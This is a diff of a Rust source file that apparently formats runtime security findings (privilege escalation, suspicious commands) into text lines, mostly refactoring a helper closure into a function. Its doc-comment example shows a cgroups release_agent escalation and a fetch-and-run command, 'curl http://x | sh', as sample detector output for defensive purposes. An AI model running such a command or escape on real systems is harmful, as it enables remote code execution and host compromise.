@@ -2,7 +2,7 @@
 //!
 //! ```text
 //! 2026-11-24T17:00:00Z  High      PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified  host  /usr/bin/bash[4242]  release_agent=/tmp/cg/release_agent
-//! 2026-11-24T17:01:00Z  Medium    Execution:Runtime/SuspiciousCommand ×3  pod default/web-1  /usr/bin/sh[77]  cmd=sh -c curl http://x | sh
+//! 2026-11-24T17:01:00Z  High      Execution:Runtime/SuspiciousCommand ×3  pod default/web-1  /usr/bin/sh[77]  cmd=sh -c curl http://x | sh
 //! ```
 //!
 //! When it last happened (UTC), the severity word (coloured on request), the finding type and
@@ -191,10 +191,16 @@ fn push_context(
     c: &RuntimeContext,
     sep: &mut dyn FnMut(&mut String, &str),
 ) -> bool {
-    let mut put = |out: &mut String, label: &str, value: &str, max: usize| {
+    fn put(
+        out: &mut String,
+        sep: &mut dyn FnMut(&mut String, &str),
+        label: &str,
+        value: &str,
+        max: usize,
+    ) {
         sep(out, label);
         push_field(out, value, max);
-    };
+    }
     let start = out.len();
     let paths = [
         ("release_agent", &c.release_agent_path),
@@ -210,7 +216,7 @@ fn push_context(
     ];
     for (label, value) in paths {
         if let Some(v) = value {
-            put(out, label, v, VALUE_MAX);
+            put(out, sep, label, v, VALUE_MAX);
         }
     }
     if let Some(path) = &c.file_path {
@@ -221,18 +227,18 @@ fn push_context(
             .map(str::to_ascii_lowercase)
             .filter(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_lowercase()))
             .unwrap_or_else(|| "file".to_owned());
-        put(out, &label, path, VALUE_MAX);
+        put(out, sep, &label, path, VALUE_MAX);
     }
     if let Some(h) = &c.shell_history_file_path
         && c.file_path.as_ref() != Some(h)
     {
-        put(out, "history", h, VALUE_MAX);
+        put(out, sep, "history", h, VALUE_MAX);
     }
     if let Some(v) = &c.ld_preload_value {
-        put(out, "LD_PRELOAD", v, VALUE_MAX);
+        put(out, sep, "LD_PRELOAD", v, VALUE_MAX);
     }
     if let Some(tool) = &c.tool_name {
-        put(out, "tool", tool, VALUE_MAX);
+        put(out, sep, "tool", tool, VALUE_MAX);
         if let Some(cat) = &c.tool_category {
             out.push_str(" (");
             push_field(out, cat, VALUE_MAX);
@@ -240,14 +246,14 @@ fn push_context(
         }
     }
     if let Some(s) = &c.service_name {
-        put(out, "service", s, VALUE_MAX);
+        put(out, sep, "service", s, VALUE_MAX);
     }
     if let Some(m) = &c.modifying_process {
-        put(out, "written_by", "", 0);
+        sep(out, "written_by");
         push_process(out, m);
     }
     if let Some(cmd) = &c.command_line_example {
-        put(out, "cmd", cmd, CMD_MAX);
+        put(out, sep, "cmd", cmd, CMD_MAX);
     }
     out.len() > start
 }
